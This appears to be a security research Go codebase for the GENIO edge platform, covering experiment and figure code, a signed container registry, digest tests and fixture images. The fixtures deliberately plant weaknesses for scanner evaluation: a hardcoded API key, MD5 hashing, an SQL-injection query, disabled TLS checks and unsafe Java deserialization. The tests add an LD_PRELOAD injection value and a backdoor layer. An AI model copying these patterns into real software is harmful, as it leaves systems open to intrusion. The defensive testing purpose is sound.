		}
	}
	return Experiment{}, false
}

// demoPlatform builds a secure platform with the default demo topology:
// two edge OLTs, eight ONUs.
func demoPlatform() (*core.Platform, error) {
	p, err := core.New(core.SecureConfig())
	if err != nil {
		return nil, err
	}
	for _, n := range []string{"olt-01", "olt-02"} {
		if _, err := p.AddEdgeNode(n, orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}); err != nil {
			return nil, err
		}
	}
	for i := 0; i < 8; i++ {
		node := "olt-01"
		if i >= 4 {
			node = "olt-02"
		}
		if _, err := p.AttachONU(node, fmt.Sprintf("onu-%04d", i+1)); err != nil {
			return nil, err
		}
	}
	pub, err := container.NewPublisher("acme")
	if err != nil {
		return nil, err
	}
	p.Registry.TrustPublisher("acme", pub.PublicKey())
	for _, img := range []*container.Image{container.AnalyticsImage(), container.IoTGatewayImage()} {
		sig := pub.Sign(img)
		p.Registry.Push(img, &sig)
	}
	return p, nil
}

// Figure1 regenerates the deployment figure.
func Figure1() (string, error) {
	p, err := demoPlatform()
	if err != nil {
		return "", err
	}
	return p.RenderDeployment(), nil
}

// Figure2 regenerates the architecture figure.
func Figure2() (string, error) {
	p, err := demoPlatform()
	if err != nil {
		return "", err
	}
	return p.RenderArchitecture(), nil
}

// Figure3 regenerates the threat/mitigation matrix.
func Figure3() (string, error) {
	m := threatmodel.GENIOModel()
	if err := m.Validate(); err != nil {
		return "", err
	}
	var b strings.Builder
	b.WriteString("OSS security solutions and standards in GENIO (Figure 3 reproduction)\n\n")
	b.WriteString(m.RenderMatrix())
	if un := m.Uncovered(); len(un) > 0 {
		fmt.Fprintf(&b, "\nUNCOVERED THREATS: %v\n", un)
	} else {
		b.WriteString("\nAll modelled threats have at least one deployed mitigation.\n")
	}
	return b.String(), nil
}

// EndToEnd runs the T1-T8 campaign against three postures.
func EndToEnd() (string, error) {
	var b strings.Builder
	b.WriteString("End-to-end attack campaign: T1-T8 vs platform posture\n")
	b.WriteString("(paper claim: the layered mitigations close the identified risks;\n")
	b.WriteString(" legacy deployments are exposed across all layers)\n\n")

	postures := []struct {
		name string
		cfg  core.Config
	}{
		{"legacy (no mitigations)", core.LegacyConfig()},
		{"detection-only (M18)", detectionOnlyConfig()},
		{"secure-by-design (M1-M18)", core.SecureConfig()},
	}
	for _, posture := range postures {
		p, err := core.New(posture.cfg)
		if err != nil {
			return "", err
		}
		c, err := attack.NewCampaign(p)
		if err != nil {
			return "", err
		}
		results := c.Run()
		s := attack.Summary(results)
		fmt.Fprintf(&b, "--- %s ---\n", posture.name)
		fmt.Fprintf(&b, "blocked=%d detected=%d missed=%d (of %d attacks)\n",
			s[attack.OutcomeBlocked], s[attack.OutcomeDetected], s[attack.OutcomeMissed], len(results))
		for _, r := range results {
			fmt.Fprintf(&b, "  %-3s %-42s %-9s %s\n", r.ThreatID, r.Attack, r.Outcome, r.Detail)
		}
		b.WriteString("\n")
	}
	return b.String(), nil
}

func detectionOnlyConfig() core.Config {
	cfg := core.LegacyConfig()
	cfg.RuntimeMonitoring = true
	return cfg
}

// table renders a simple two-column table.
func table(rows [][2]string) string {
	width := 0
	for _, r := range rows {
		if len(r[0]) > width {
			width = len(r[0])
		}
	}
	var b strings.Builder
	for _, r := range rows {
		fmt.Fprintf(&b, "  %-*s  %s\n", width, r[0], r[1])
	}
	return b.String()
}

// sortedKeys returns map keys sorted, for deterministic output.
func sortedKeys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
