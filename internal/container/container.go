// Package container models the container supply chain GENIO's application-
// level mitigations operate on: images built from layers, configuration
// (entrypoint, user, Linux capabilities), a dependency manifest for SCA,
// and a registry with publisher signing.
//
// Images are the unit that T7 (vulnerable applications) and T8 (malicious
// applications) arrive in, and the artifact M13/M16 scan before admission.
package container

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
	"sort"
	"strings"
	"sync"
)

// File is one file inside an image layer.
type File struct {
	Path    string `json:"path"`
	Mode    uint32 `json:"mode"`
	Content []byte `json:"content"`
}

// Layer is an ordered set of files; later layers override earlier ones.
type Layer struct {
	Files []File `json:"files"`
}

// Digest computes the layer content digest (order-insensitive over file
// paths, binary-encoded — no reflection formatting on the deploy path).
func (l Layer) Digest() string {
	files := l.Files
	byPath := func(i, j int) bool { return files[i].Path < files[j].Path }
	if !sort.SliceIsSorted(files, byPath) {
		// Only pay the copy when the layer is actually unordered; the
		// original slice is never mutated either way.
		files = append([]File(nil), l.Files...)
		sort.Slice(files, byPath)
	}
	w := hasher{h: sha256.New()}
	for _, f := range files {
		w.str(f.Path)
		w.u32(f.Mode)
		w.u64(uint64(len(f.Content)))
		w.h.Write(f.Content)
	}
	return w.sum()
}

// Dependency is one entry in the image's software manifest, the SCA input.
type Dependency struct {
	Name     string `json:"name"`
	Version  string `json:"version"`
	Language string `json:"language"` // "python", "java", "go", "os"
	// Direct is true for dependencies the application imports itself.
	Direct bool `json:"direct"`
	// Reachable is true when application code actually calls into the
	// dependency. SCA tools that ignore reachability flag everything and
	// produce the Lesson-7 noise; reachability-aware filtering trims it.
	Reachable bool `json:"reachable"`
}

// Config is the runtime configuration baked into an image.
type Config struct {
	Entrypoint   []string `json:"entrypoint"`
	User         string   `json:"user"` // "" or "root" means UID 0
	Capabilities []string `json:"capabilities,omitempty"`
	Env          []string `json:"env,omitempty"`
	ExposedPorts []int    `json:"exposedPorts,omitempty"`
	// HasRESTAPI marks images exposing an OpenAPI-described REST surface,
	// the precondition for DAST fuzzing (Lesson 7).
	HasRESTAPI bool `json:"hasRestApi"`
}

// RunsAsRoot reports whether the image executes as UID 0.
func (c Config) RunsAsRoot() bool { return c.User == "" || c.User == "root" }

// HasCapability reports whether the image requests a Linux capability.
func (c Config) HasCapability(cap string) bool {
	for _, v := range c.Capabilities {
		if strings.EqualFold(v, cap) {
			return true
		}
	}
	return false
}

// Image is a container image.
type Image struct {
	Name         string       `json:"name"`
	Tag          string       `json:"tag"`
	Layers       []Layer      `json:"layers"`
	Config       Config       `json:"config"`
	Dependencies []Dependency `json:"dependencies"`
}

// Ref returns name:tag.
func (i *Image) Ref() string { return i.Name + ":" + i.Tag }

// hasher wraps a hash with one reusable scratch buffer, so the length
// prefixes and scalar fields below hash without a per-call allocation —
// Digest runs once per deployment on the admission path.
type hasher struct {
	h       hash.Hash
	buf     [8]byte
	scratch []byte
}

// str writes a length-delimited string, so element boundaries can never
// be confused whatever the contents. The scratch buffer is reused
// across calls: hash.Hash only takes []byte, and handing it a fresh
// conversion of every string would allocate per field on the admission
// hot path.
func (w *hasher) str(s string) {
	w.u32(uint32(len(s)))
	w.scratch = append(w.scratch[:0], s...)
	w.h.Write(w.scratch)
}

// count writes a slice's element count before its elements. Without it,
// adjacent slice fields concatenate into one flat element stream and
// elements can migrate across field boundaries without changing the
// digest (e.g. a trailing Entrypoint arg reinterpreted as User + a
// Capability).
func (w *hasher) count(n int) {
	w.u32(uint32(n))
}

func (w *hasher) u32(v uint32) {
	binary.LittleEndian.PutUint32(w.buf[:4], v)
	w.h.Write(w.buf[:4])
}

func (w *hasher) u64(v uint64) {
	binary.LittleEndian.PutUint64(w.buf[:], v)
	w.h.Write(w.buf[:])
}

func (w *hasher) flag(v bool) {
	w.buf[0] = 0
	if v {
		w.buf[0] = 1
	}
	w.h.Write(w.buf[:1])
}

func (w *hasher) sum() string {
	var out [sha256.Size]byte
	return hex.EncodeToString(w.h.Sum(out[:0]))
}

// Digest computes the image manifest digest over layer digests and
// config. Deliberately recomputed on every call — never memoized — so a
// tampered image (the registry-compromise threat) can never hide behind
// a stale digest. The admission pipeline calls this per deployment for
// its cache keys, so the encoding is hand-rolled rather than
// reflection-formatted.
func (i *Image) Digest() string {
	w := hasher{h: sha256.New()}
	w.str(i.Name)
	w.str(i.Tag)
	// The digest covers the complete manifest — layers, the full config
	// (env included: LD_PRELOAD-style injection must not verify against
	// the clean image's signature), and the dependency manifest the SCA
	// gate scans — so publisher signatures and the admission
	// clean-verdict cache bind everything the scanners consume. Every
	// slice field is prefixed with its element count (and every element
	// is length-delimited), making the encoding injective: elements
	// cannot migrate between adjacent fields, so distinct images cannot
	// collide.
	w.count(len(i.Layers))
	for _, l := range i.Layers {
		w.str(l.Digest())
	}
	w.count(len(i.Config.Entrypoint))
	for _, e := range i.Config.Entrypoint {
		w.str(e)
	}
	w.str(i.Config.User)
	w.count(len(i.Config.Capabilities))
	for _, c := range i.Config.Capabilities {
		w.str(c)
	}
	w.count(len(i.Config.Env))
	for _, e := range i.Config.Env {
		w.str(e)
	}
	w.count(len(i.Config.ExposedPorts))
	for _, p := range i.Config.ExposedPorts {
		w.u64(uint64(p))
	}
	w.flag(i.Config.HasRESTAPI)
	w.count(len(i.Dependencies))
	for _, d := range i.Dependencies {
		w.str(d.Name)
		w.str(d.Version)
		w.str(d.Language)
		w.flag(d.Direct)
		w.flag(d.Reachable)
	}
	return w.sum()
}

// Flatten merges layers into the final filesystem view (later layers win).
// This is what Crane-style extraction (M13) hands to SAST scanners.
func (i *Image) Flatten() map[string]File {
	out := make(map[string]File)
	for _, l := range i.Layers {
		for _, f := range l.Files {
			out[f.Path] = f
		}
	}
	return out
}

// FilesByExtension returns flattened files whose path ends with ext, sorted.
func (i *Image) FilesByExtension(ext string) []File {
	var out []File
	for _, f := range i.Flatten() {
		if strings.HasSuffix(f.Path, ext) {
			out = append(out, f)
		}
	}
	sort.Slice(out, func(a, b int) bool { return out[a].Path < out[b].Path })
	return out
}

// --- Registry ---------------------------------------------------------------

// Signature is a publisher's signature over an image digest.
type Signature struct {
	Publisher string `json:"publisher"`
	Digest    string `json:"digest"`
	Sig       []byte `json:"sig"`
}

// Errors returned by registry operations.
var (
	ErrNotFound     = errors.New("container: image not found")
	ErrUnsigned     = errors.New("container: image not signed")
	ErrBadSignature = errors.New("container: image signature invalid")
)

// Publisher signs images for distribution (a business user in GENIO terms).
type Publisher struct {
	Name string
	priv ed25519.PrivateKey
	pub  ed25519.PublicKey
}

// NewPublisher creates a publisher with a fresh key.
func NewPublisher(name string) (*Publisher, error) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("publisher key: %w", err)
	}
	return &Publisher{Name: name, priv: priv, pub: pub}, nil
}

// PublicKey returns the publisher verification key.
func (p *Publisher) PublicKey() ed25519.PublicKey {
	out := make(ed25519.PublicKey, len(p.pub))
	copy(out, p.pub)
	return out
}

// Sign produces a signature over the image digest.
func (p *Publisher) Sign(img *Image) Signature {
	d := img.Digest()
	return Signature{Publisher: p.Name, Digest: d, Sig: ed25519.Sign(p.priv, []byte(d))}
}

// Registry stores images and their signatures; it is the public GENIO
// image registry business users publish to. Safe for concurrent use.
//
// Signature verification is cached per ref: image content is immutable
// under a digest, so once a (image, signature, key) triple has verified,
// re-pulling the same ref skips the digest and ed25519 work — the deploy
// hot path pulls the same tenant image across many nodes. The cache entry
// is dropped whenever the ref is re-pushed or publisher trust changes.
type Registry struct {
	mu         sync.RWMutex
	images     map[string]*Image
	signatures map[string]Signature
	publishers map[string]ed25519.PublicKey // trusted publisher keys
	verified   map[string]verifiedEntry     // refs whose current content verified clean
}

// verifiedEntry records exactly what was verified so any swap of image,
// signature, or key invalidates the hit.
type verifiedEntry struct {
	img *Image
	sig string // signature bytes
	pub string // publisher key bytes
}

// NewRegistry creates an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		images:     make(map[string]*Image),
		signatures: make(map[string]Signature),
		publishers: make(map[string]ed25519.PublicKey),
		verified:   make(map[string]verifiedEntry),
	}
}

// TrustPublisher registers a publisher's verification key.
func (r *Registry) TrustPublisher(name string, pub ed25519.PublicKey) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.publishers[name] = pub
	// Re-keying a publisher can invalidate previous verifications.
	r.verified = make(map[string]verifiedEntry)
}

// Push stores an image, optionally with its signature.
func (r *Registry) Push(img *Image, sig *Signature) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.images[img.Ref()] = img
	if sig != nil {
		r.signatures[img.Ref()] = *sig
	}
	delete(r.verified, img.Ref())
}

// Pull retrieves an image without verification (the permissive default).
func (r *Registry) Pull(ref string) (*Image, error) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	img, ok := r.images[ref]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, ref)
	}
	return img, nil
}

// PullVerified retrieves an image and verifies its signature against a
// trusted publisher key, the hardened admission posture.
func (r *Registry) PullVerified(ref string) (*Image, error) {
	r.mu.RLock()
	img, ok := r.images[ref]
	if !ok {
		r.mu.RUnlock()
		return nil, fmt.Errorf("%w: %s", ErrNotFound, ref)
	}
	sig, ok := r.signatures[ref]
	if !ok {
		r.mu.RUnlock()
		return nil, fmt.Errorf("%w: %s", ErrUnsigned, ref)
	}
	pub, ok := r.publishers[sig.Publisher]
	if !ok {
		r.mu.RUnlock()
		return nil, fmt.Errorf("%w: unknown publisher %q", ErrBadSignature, sig.Publisher)
	}
	if e, hit := r.verified[ref]; hit && e.img == img && e.sig == string(sig.Sig) && e.pub == string(pub) {
		r.mu.RUnlock()
		return img, nil
	}
	r.mu.RUnlock()

	d := img.Digest()
	if sig.Digest != d || !ed25519.Verify(pub, []byte(d), sig.Sig) {
		return nil, fmt.Errorf("%w: %s", ErrBadSignature, ref)
	}

	r.mu.Lock()
	// Only cache if the ref still holds exactly what was verified.
	if r.images[ref] == img {
		if cur, ok := r.signatures[ref]; ok && string(cur.Sig) == string(sig.Sig) {
			r.verified[ref] = verifiedEntry{img: img, sig: string(sig.Sig), pub: string(pub)}
		}
	}
	r.mu.Unlock()
	return img, nil
}

// List returns all image refs sorted.
func (r *Registry) List() []string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]string, 0, len(r.images))
	for ref := range r.images {
		out = append(out, ref)
	}
	sort.Strings(out)
	return out
}
