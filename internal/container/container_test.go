package container

import (
	"errors"
	"testing"
)

func TestLayerDigestDeterministic(t *testing.T) {
	l1 := Layer{Files: []File{{Path: "/a", Mode: 0o644, Content: []byte("1")}, {Path: "/b", Mode: 0o644, Content: []byte("2")}}}
	l2 := Layer{Files: []File{{Path: "/b", Mode: 0o644, Content: []byte("2")}, {Path: "/a", Mode: 0o644, Content: []byte("1")}}}
	if l1.Digest() != l2.Digest() {
		t.Fatal("layer digest depends on file order")
	}
	l3 := Layer{Files: []File{{Path: "/a", Mode: 0o644, Content: []byte("X")}, {Path: "/b", Mode: 0o644, Content: []byte("2")}}}
	if l1.Digest() == l3.Digest() {
		t.Fatal("different content produced same digest")
	}
}

func TestImageDigestSensitivity(t *testing.T) {
	a := IoTGatewayImage()
	b := IoTGatewayImage()
	if a.Digest() != b.Digest() {
		t.Fatal("identical images have different digests")
	}
	b.Config.Capabilities = []string{"CAP_SYS_ADMIN"}
	if a.Digest() == b.Digest() {
		t.Fatal("capability change did not change digest")
	}
}

// TestImageDigestCoversFullManifest pins that the digest binds every
// scanner input: the dependency manifest (the SCA gate's subject), the
// environment (LD_PRELOAD-style injection), and the REST flag (DAST
// eligibility). An omission here would let a re-pushed variant reuse the
// clean image's signature and cached admission verdict unscanned.
func TestImageDigestCoversFullManifest(t *testing.T) {
	mutations := []struct {
		name string
		mut  func(*Image)
	}{
		{"added dependency", func(i *Image) {
			i.Dependencies = append(i.Dependencies, Dependency{Name: "log4j", Version: "2.14.0", Language: "java", Direct: true, Reachable: true})
		}},
		{"dependency version change", func(i *Image) {
			i.Dependencies[0].Version = i.Dependencies[0].Version + ".1"
		}},
		{"dependency reachability flip", func(i *Image) {
			i.Dependencies[0].Reachable = !i.Dependencies[0].Reachable
		}},
		{"env injection", func(i *Image) {
			i.Config.Env = append(i.Config.Env, "LD_PRELOAD=/tmp/evil.so")
		}},
		{"rest flag flip", func(i *Image) {
			i.Config.HasRESTAPI = !i.Config.HasRESTAPI
		}},
	}
	for _, m := range mutations {
		a, b := AnalyticsImage(), AnalyticsImage()
		m.mut(b)
		if a.Digest() == b.Digest() {
			t.Errorf("%s did not change the digest", m.name)
		}
	}
}

// TestImageDigestFieldBoundaries proves the digest encoding is injective
// across adjacent slice fields: moving an element from one field into the
// next must change the digest, even when the flat sequence of
// length-delimited elements stays identical (the first two pairs). The
// digest keys the admission clean-verdict cache and binds publisher
// signatures, so any such collision lets a config-privileged variant of
// a clean image impersonate it.
func TestImageDigestFieldBoundaries(t *testing.T) {
	base := func() *Image { return &Image{Name: "t", Tag: "1"} }
	pairs := []struct {
		name string
		a, b *Image
	}{
		{
			name: "entrypoint arg vs user+capability",
			a: func() *Image {
				i := base()
				i.Config = Config{Entrypoint: []string{"/bin/app", "root"}, User: "CAP_SYS_ADMIN"}
				return i
			}(),
			b: func() *Image {
				i := base()
				i.Config = Config{Entrypoint: []string{"/bin/app"}, User: "root", Capabilities: []string{"CAP_SYS_ADMIN"}}
				return i
			}(),
		},
		{
			name: "layer digest vs entrypoint element",
			a: func() *Image {
				i := base()
				i.Layers = []Layer{{}}
				return i
			}(),
			b: func() *Image {
				i := base()
				i.Config = Config{Entrypoint: []string{Layer{}.Digest()}}
				return i
			}(),
		},
		{
			name: "user vs first capability",
			a: func() *Image {
				i := base()
				i.Config = Config{User: "root", Capabilities: []string{"CAP_NET_ADMIN"}}
				return i
			}(),
			b: func() *Image {
				i := base()
				i.Config = Config{User: "", Capabilities: []string{"root", "CAP_NET_ADMIN"}}
				return i
			}(),
		},
	}
	for _, p := range pairs {
		if p.a.Digest() == p.b.Digest() {
			t.Errorf("%s: distinct images collide (digest %s)", p.name, p.a.Digest())
		}
	}
}

func TestFlattenLaterLayersWin(t *testing.T) {
	img := &Image{
		Name: "t", Tag: "1",
		Layers: []Layer{
			{Files: []File{{Path: "/app/cfg", Content: []byte("v1")}}},
			{Files: []File{{Path: "/app/cfg", Content: []byte("v2")}, {Path: "/app/new", Content: []byte("n")}}},
		},
	}
	fs := img.Flatten()
	if string(fs["/app/cfg"].Content) != "v2" {
		t.Fatalf("flatten = %q, want v2", fs["/app/cfg"].Content)
	}
	if len(fs) != 2 {
		t.Fatalf("flatten size = %d, want 2", len(fs))
	}
}

func TestFilesByExtension(t *testing.T) {
	img := IoTGatewayImage()
	py := img.FilesByExtension(".py")
	if len(py) != 2 {
		t.Fatalf("py files = %d, want 2", len(py))
	}
	if py[0].Path > py[1].Path {
		t.Fatal("files not sorted")
	}
}

func TestConfigHelpers(t *testing.T) {
	miner := CryptominerImage()
	if !miner.Config.RunsAsRoot() {
		t.Fatal("miner fixture should run as root")
	}
	if !miner.Config.HasCapability("cap_sys_admin") {
		t.Fatal("case-insensitive capability lookup failed")
	}
	analytics := AnalyticsImage()
	if analytics.Config.RunsAsRoot() {
		t.Fatal("analytics fixture should be non-root")
	}
	if analytics.Config.HasCapability("CAP_SYS_ADMIN") {
		t.Fatal("analytics fixture should have no extra caps")
	}
}

func TestRegistryPushPull(t *testing.T) {
	r := NewRegistry()
	img := AnalyticsImage()
	r.Push(img, nil)
	got, err := r.Pull(img.Ref())
	if err != nil || got.Ref() != "acme/analytics:2.0.1" {
		t.Fatalf("Pull = %v, %v", got, err)
	}
	if _, err := r.Pull("missing:1"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
	if got := len(r.List()); got != 1 {
		t.Fatalf("List = %d, want 1", got)
	}
}

func TestPullVerifiedRequiresSignature(t *testing.T) {
	r := NewRegistry()
	img := AnalyticsImage()
	r.Push(img, nil)
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrUnsigned) {
		t.Fatalf("err = %v, want ErrUnsigned", err)
	}
}

func TestPullVerifiedHappyPath(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	r.TrustPublisher("acme", pub.PublicKey())
	img := AnalyticsImage()
	sig := pub.Sign(img)
	r.Push(img, &sig)
	if _, err := r.PullVerified(img.Ref()); err != nil {
		t.Fatalf("PullVerified: %v", err)
	}
}

func TestPullVerifiedRejectsUnknownPublisher(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("shady")
	if err != nil {
		t.Fatal(err)
	}
	img := CryptominerImage()
	sig := pub.Sign(img)
	r.Push(img, &sig) // signed, but publisher is not trusted
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestPullVerifiedRejectsTamperedImage(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	r.TrustPublisher("acme", pub.PublicKey())
	img := AnalyticsImage()
	sig := pub.Sign(img)
	// Image altered after signing (e.g. registry compromise).
	img.Layers = append(img.Layers, Layer{Files: []File{{Path: "/backdoor", Content: []byte("evil")}}})
	r.Push(img, &sig)
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestFixtureShapes(t *testing.T) {
	if !IoTGatewayImage().Config.HasRESTAPI {
		t.Fatal("iot-gateway must expose REST (fuzzable)")
	}
	if MLInferenceImage().Config.HasRESTAPI {
		t.Fatal("ml-inference must not expose REST (fuzz infeasible)")
	}
	var reachable, unreachable int
	for _, d := range IoTGatewayImage().Dependencies {
		if d.Reachable {
			reachable++
		} else {
			unreachable++
		}
	}
	if reachable == 0 || unreachable == 0 {
		t.Fatal("iot-gateway needs both reachable and unreachable deps for Lesson 7")
	}
}
