package container

import (
	"errors"
	"testing"
)

func TestLayerDigestDeterministic(t *testing.T) {
	l1 := Layer{Files: []File{{Path: "/a", Mode: 0o644, Content: []byte("1")}, {Path: "/b", Mode: 0o644, Content: []byte("2")}}}
	l2 := Layer{Files: []File{{Path: "/b", Mode: 0o644, Content: []byte("2")}, {Path: "/a", Mode: 0o644, Content: []byte("1")}}}
	if l1.Digest() != l2.Digest() {
		t.Fatal("layer digest depends on file order")
	}
	l3 := Layer{Files: []File{{Path: "/a", Mode: 0o644, Content: []byte("X")}, {Path: "/b", Mode: 0o644, Content: []byte("2")}}}
	if l1.Digest() == l3.Digest() {
		t.Fatal("different content produced same digest")
	}
}

func TestImageDigestSensitivity(t *testing.T) {
	a := IoTGatewayImage()
	b := IoTGatewayImage()
	if a.Digest() != b.Digest() {
		t.Fatal("identical images have different digests")
	}
	b.Config.Capabilities = []string{"CAP_SYS_ADMIN"}
	if a.Digest() == b.Digest() {
		t.Fatal("capability change did not change digest")
	}
}

func TestFlattenLaterLayersWin(t *testing.T) {
	img := &Image{
		Name: "t", Tag: "1",
		Layers: []Layer{
			{Files: []File{{Path: "/app/cfg", Content: []byte("v1")}}},
			{Files: []File{{Path: "/app/cfg", Content: []byte("v2")}, {Path: "/app/new", Content: []byte("n")}}},
		},
	}
	fs := img.Flatten()
	if string(fs["/app/cfg"].Content) != "v2" {
		t.Fatalf("flatten = %q, want v2", fs["/app/cfg"].Content)
	}
	if len(fs) != 2 {
		t.Fatalf("flatten size = %d, want 2", len(fs))
	}
}

func TestFilesByExtension(t *testing.T) {
	img := IoTGatewayImage()
	py := img.FilesByExtension(".py")
	if len(py) != 2 {
		t.Fatalf("py files = %d, want 2", len(py))
	}
	if py[0].Path > py[1].Path {
		t.Fatal("files not sorted")
	}
}

func TestConfigHelpers(t *testing.T) {
	miner := CryptominerImage()
	if !miner.Config.RunsAsRoot() {
		t.Fatal("miner fixture should run as root")
	}
	if !miner.Config.HasCapability("cap_sys_admin") {
		t.Fatal("case-insensitive capability lookup failed")
	}
	analytics := AnalyticsImage()
	if analytics.Config.RunsAsRoot() {
		t.Fatal("analytics fixture should be non-root")
	}
	if analytics.Config.HasCapability("CAP_SYS_ADMIN") {
		t.Fatal("analytics fixture should have no extra caps")
	}
}

func TestRegistryPushPull(t *testing.T) {
	r := NewRegistry()
	img := AnalyticsImage()
	r.Push(img, nil)
	got, err := r.Pull(img.Ref())
	if err != nil || got.Ref() != "acme/analytics:2.0.1" {
		t.Fatalf("Pull = %v, %v", got, err)
	}
	if _, err := r.Pull("missing:1"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
	if got := len(r.List()); got != 1 {
		t.Fatalf("List = %d, want 1", got)
	}
}

func TestPullVerifiedRequiresSignature(t *testing.T) {
	r := NewRegistry()
	img := AnalyticsImage()
	r.Push(img, nil)
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrUnsigned) {
		t.Fatalf("err = %v, want ErrUnsigned", err)
	}
}

func TestPullVerifiedHappyPath(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	r.TrustPublisher("acme", pub.PublicKey())
	img := AnalyticsImage()
	sig := pub.Sign(img)
	r.Push(img, &sig)
	if _, err := r.PullVerified(img.Ref()); err != nil {
		t.Fatalf("PullVerified: %v", err)
	}
}

func TestPullVerifiedRejectsUnknownPublisher(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("shady")
	if err != nil {
		t.Fatal(err)
	}
	img := CryptominerImage()
	sig := pub.Sign(img)
	r.Push(img, &sig) // signed, but publisher is not trusted
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestPullVerifiedRejectsTamperedImage(t *testing.T) {
	r := NewRegistry()
	pub, err := NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	r.TrustPublisher("acme", pub.PublicKey())
	img := AnalyticsImage()
	sig := pub.Sign(img)
	// Image altered after signing (e.g. registry compromise).
	img.Layers = append(img.Layers, Layer{Files: []File{{Path: "/backdoor", Content: []byte("evil")}}})
	r.Push(img, &sig)
	if _, err := r.PullVerified(img.Ref()); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestFixtureShapes(t *testing.T) {
	if !IoTGatewayImage().Config.HasRESTAPI {
		t.Fatal("iot-gateway must expose REST (fuzzable)")
	}
	if MLInferenceImage().Config.HasRESTAPI {
		t.Fatal("ml-inference must not expose REST (fuzz infeasible)")
	}
	var reachable, unreachable int
	for _, d := range IoTGatewayImage().Dependencies {
		if d.Reachable {
			reachable++
		} else {
			unreachable++
		}
	}
	if reachable == 0 || unreachable == 0 {
		t.Fatal("iot-gateway needs both reachable and unreachable deps for Lesson 7")
	}
}
