package container

// Fixture images used across the application-security experiments. They
// model the three kinds of workloads business users ship to GENIO: a
// vulnerable-but-legitimate REST service, a non-REST ML workload, and
// deliberately malicious images (T8). Planted findings are annotated so
// tests can assert detector precision and recall.

// IoTGatewayImage returns a Python REST API with deliberately planted
// weaknesses: a hardcoded credential, weak hashing, an SQL injection sink
// (SAST targets), vulnerable dependencies both reachable and unreachable
// (SCA precision, Lesson 7), root execution, and an exposed debug port.
func IoTGatewayImage() *Image {
	return &Image{
		Name: "acme/iot-gateway",
		Tag:  "1.4.2",
		Layers: []Layer{
			{Files: []File{
				{Path: "/app/server.py", Mode: 0o644, Content: []byte(`
import flask, hashlib, sqlite3
API_KEY = "sk_live_51HxTotallyRealKey"  # hardcoded credential
def login(user, pw):
    digest = hashlib.md5(pw.encode()).hexdigest()  # weak hash
    q = "SELECT * FROM users WHERE name='" + user + "'"  # sql injection
    return sqlite3.connect("db").execute(q)
`)},
				{Path: "/app/util.py", Mode: 0o644, Content: []byte(`
import requests
def fetch(url):
    return requests.get(url, verify=False)  # tls verification disabled
`)},
				{Path: "/app/openapi.json", Mode: 0o644, Content: []byte(`{"paths":{"/login":{},"/devices":{}}}`)},
			}},
			{Files: []File{
				{Path: "/app/requirements.txt", Mode: 0o644, Content: []byte("flask==0.12\nrequests==2.19.0\npyyaml==3.12\nleft-unused==1.0\n")},
			}},
		},
		Config: Config{
			Entrypoint:   []string{"python", "/app/server.py"},
			User:         "root", // docker-bench finding
			ExposedPorts: []int{8080, 9229},
			HasRESTAPI:   true,
		},
		Dependencies: []Dependency{
			{Name: "flask", Version: "0.12", Language: "python", Direct: true, Reachable: true},
			{Name: "requests", Version: "2.19.0", Language: "python", Direct: true, Reachable: true},
			{Name: "pyyaml", Version: "3.12", Language: "python", Direct: true, Reachable: false},      // imported, never called
			{Name: "left-unused", Version: "1.0", Language: "python", Direct: false, Reachable: false}, // transitive, unused
			{Name: "urllib3", Version: "1.23", Language: "python", Direct: false, Reachable: true},
		},
	}
}

// MLInferenceImage returns a Java batch workload with no REST surface —
// the case where fuzzing is infeasible (Lesson 7) — carrying one vulnerable
// reachable dependency.
func MLInferenceImage() *Image {
	return &Image{
		Name: "acme/ml-inference",
		Tag:  "0.9.0",
		Layers: []Layer{
			{Files: []File{
				{Path: "/app/Inference.java", Mode: 0o644, Content: []byte(`
import java.io.ObjectInputStream;
class Inference {
    Object load(java.io.InputStream in) throws Exception {
        return new ObjectInputStream(in).readObject(); // unsafe deserialization
    }
}
`)},
				{Path: "/app/model.bin", Mode: 0o644, Content: []byte("weights")},
			}},
		},
		Config: Config{
			Entrypoint: []string{"java", "-jar", "/app/inference.jar"},
			User:       "mluser",
			HasRESTAPI: false,
		},
		Dependencies: []Dependency{
			{Name: "log4j-core", Version: "2.14.0", Language: "java", Direct: true, Reachable: true},
			{Name: "guava", Version: "31.0", Language: "java", Direct: true, Reachable: true},
			{Name: "commons-text", Version: "1.9", Language: "java", Direct: false, Reachable: false},
		},
	}
}

// AnalyticsImage returns a well-built workload: non-root, no extra
// capabilities, current dependencies, no planted weaknesses. It is the
// true-negative control for detector precision.
func AnalyticsImage() *Image {
	return &Image{
		Name: "acme/analytics",
